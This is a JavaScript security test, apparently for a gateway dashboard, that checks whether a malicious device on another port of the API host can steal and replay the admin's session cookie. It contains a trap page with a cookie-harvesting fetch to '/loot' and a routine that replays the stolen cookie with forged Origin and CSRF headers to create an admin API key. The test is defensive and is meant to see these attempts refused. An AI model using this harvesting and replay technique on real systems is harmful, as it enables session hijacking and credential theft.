// A malicious device tries to use the admin's session. Its TCP endpoint has the same host as the API, and browsers send
// a cookie to every port of its host: a page of the device on that port receives the cookie of the admin's session.

import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { startAgent } from '../support/agent.js';
import { apiClient } from '../support/api.js';
import { root } from '../support/gateway.js';
import { drivePage, until } from '../support/page-driver.js';
import { expectPromise } from '../support/promise.js';
import { signInByLink } from './sign-in-steps.js';

const OPERATIONS = join(root, 'src/dashboard/generated/operations.json');

/**
 * @param {any} browser Playwright's
 * @param {import('../support/gateway.js').RunningGateway} gateway
 */
export async function replayStolenCookie(browser, { api, apiKey, signInLink, agentLine }) {
  const device = await startDevice();
  const ask = apiClient(api, apiKey);
  const agents = [startAgent(agentLine, device.port, 'tcp 3000'), startAgent(agentLine, device.port, 'http 3000')];
  const context = await browser.newContext();
  try {
    const driver = drivePage(await context.newPage(), api);
    await signInByLink(driver, signInLink);
    /** @type {string[]} */
    let urls = [];
    await until(async () => {
      const { endpoints } = await ask('{ endpoints { nodes { publicUrl } } }');
      urls = endpoints.nodes.map((/** @type {{ publicUrl: string }} */ { publicUrl }) => publicUrl);
      return urls.length === 2;
    }, 'both endpoints of the device are live');
    const [, port = ''] = /^tcp:.*:(\d+)$/m.exec(urls.join('\n')) ?? [];
    const lure = urls.find((url) => url.startsWith('http:')) ?? '';
    device.redirectTo(`http://${new URL(api).hostname}:${port}/trap`);

    await driver.page.goto(lure);
    await until(() => device.cookies.some((cookie) => cookie.includes('__Host-gateway_session=')), 'a cookie came');
    expectPromise('browsers send the session cookie to pages on other ports of the API’s host', true);

    const before = (await ask('{ apiKeys { totalCount } }')).apiKeys.totalCount;
    const results = await useCookies(api, device.cookies);
    const after = (await ask('{ apiKeys { totalCount } }')).apiKeys.totalCount;
    const createdKeys = results
      .filter(({ key }) => key)
      .map(({ key }) => `the device has an admin's API key: ${key.slice(0, 8)}…`);
    const isSafe = createdKeys.length === 0 && before === after && results.every(({ status }) => status === 401);
    expectPromise(
      `the stolen cookie is refused: status ${results.map(({ status }) => status).join(', ')}`,
      isSafe,
      createdKeys,
    );

    await driver.page.goto(driver.at('endpoints'));
    await driver.heading('Endpoints').waitFor();
    const other = await context.newPage();
    await other.goto(driver.at('access'));
    await other.getByRole('navigation', { name: 'Places' }).waitFor();
    expectPromise('the admin is still signed in, also in another tab', true);
    await other.evaluate(() => localStorage.clear());
    await other.reload();
    await other.getByRole('heading', { name: 'Sign in' }).waitFor();
    expectPromise('clearing the storage ends the session of the page', true);
  } finally {
    await context.close();
    await Promise.all(agents.map((agent) => agent.stop()));
    device.stop();
  }
}

/**
 * Uses the cookies as a program that can send any header.
 * @param {string} api
 * @param {string[]} cookies
 * @returns {Promise<{ status: number, key: string }[]>} one result for each header that was tried
 */
async function useCookies(api, cookies) {
  const cookie = cookies.find((text) => text.includes('__Host-gateway_session=')) ?? '';
  const [, token = ''] = /__Host-gateway_session=([^;]*)/.exec(cookie) ?? [];
  const texts = /** @type {Record<string, string>} */ (JSON.parse(readFileSync(OPERATIONS, 'utf8')));
  const [id] = Object.entries(texts).find(([, text]) => text.startsWith('mutation CreateApiKey')) ?? [];
  const body = JSON.stringify({ documentId: `sha256:${id}`, variables: { input: { description: 'of the device' } } });
  const results = [];
  for (const proof of ['1', '', token, createHash('sha256').update(token).digest('base64url')]) {
    const headers = {
      'Content-Type': 'application/json',
      'Gateway-Dashboard': proof,
      'Sec-Fetch-Site': 'same-origin',
      Origin: api,
      Cookie: cookie,
    };
    const response = await fetch(`${api}/graphql`, { method: 'POST', headers, body });
    const { data, errors } = /** @type {any} */ (await response.json());
    const key = data?.createApiKey?.token ?? '';
    results.push({ status: errors?.[0].extensions.status ?? response.status, key });
  }
  return results;
}

/** The server of the device: a page that sends a request to its own origin, and a redirect to that page. */
async function startDevice() {
  /** @type {string[]} */
  const cookies = [];
  let trap = '';
  const server = createServer(({ url, headers }, response) => {
    if (headers.cookie !== undefined) cookies.push(headers.cookie);
    if (url === '/loot') return void response.end('thanks');
    if (url !== '/trap') return void response.writeHead(302, { Location: trap }).end();
    response.setHeader('Content-Type', 'text/html');
    response.end('<!doctype html><title>Welcome</title><script>fetch("/loot", { credentials: "include" })</script>');
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = /** @type {import('node:net').AddressInfo} */ (server.address());
  return {
    port,
    cookies,
    /** @param {string} url */
    redirectTo(url) {
      trap = url;
    },
    stop() {
      server.close();
      server.closeAllConnections();
    },
  };
}
